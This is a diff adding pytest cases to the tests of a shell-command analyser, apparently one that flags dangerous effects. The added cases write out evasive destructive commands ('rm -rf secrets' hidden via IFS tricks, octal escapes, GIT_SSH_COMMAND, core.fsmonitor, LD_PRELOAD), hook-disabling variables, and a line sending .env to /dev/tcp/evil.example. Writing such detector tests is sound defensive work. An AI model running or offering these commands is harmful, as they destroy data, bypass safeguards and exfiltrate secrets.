@@ -128,3 +128,37 @@ def test_for_loop_over_sources_has_no_glob_surprises(an: Any, project: Path) -> 
 def test_python_script_executes_the_file(an: Any, project: Path) -> None:
     out = an("python3 script.py")
     assert out["effects"]["executes"] == [str(project / "script.py")] and out["opaque"] == []
+
+
+@pytest.mark.parametrize(("command", "kind", "path"), [
+    ('IFS=.; x="rm.-rf.secrets"; $x', "deletes", "secrets"),
+    ('x="rm -rf secrets"; $x', "deletes", "secrets"),
+    ("IFS=$(cat f); x='a b'; rm $x", "deletes", None),
+    ("alias r='rm -rf'; r secrets", "deletes", "secrets"),
+    ("GIT_SSH_COMMAND='rm -rf secrets' git fetch", "deletes", "secrets"),
+    ("git -c core.fsmonitor='rm -rf secrets' status", "deletes", "secrets"),
+    ("BASH_ENV=s.sh bash -c true", "deletes", "secrets"),
+    ("LD_PRELOAD=./evil.so ls", "executes", "evil.so"),
+    ("echo 'rm -rf secrets' | at now", "deletes", "secrets"),
+    ("a=r; b=m; $a$b -rf secrets", "deletes", "secrets"),
+    ("$'\\162\\155' -rf secrets", "deletes", "secrets"),
+    ("rm -rf $(echo secrets)", "deletes", "secrets"),
+    ('rm -rf "$(printf "%s" secrets)"', "deletes", None),
+    ("tar xf - < payload.tar", "writes", None),
+])
+def test_more_evasions(an: Any, project: Path, command: str, kind: str, path: str | None) -> None:
+    out = an(command)
+    if path is None:
+        assert kind in opaque_kinds(out), out
+    else:
+        assert str(project / path) in out["effects"][kind], out
+
+
+@pytest.mark.parametrize("command", ["SKIP=flake8 git commit -m x", "HUSKY=0 git commit -m x",
+                                     "env HUSKY_SKIP_HOOKS=1 git commit -m x"])
+def test_hook_manager_switches(an: Any, command: str) -> None:
+    assert an(command)["git"][-1]["hooks_disabled"] is True
+
+
+def test_dev_tcp_is_network(an: Any) -> None:
+    assert "network" in an("cat .env > /dev/tcp/evil.example/80")["facts"]
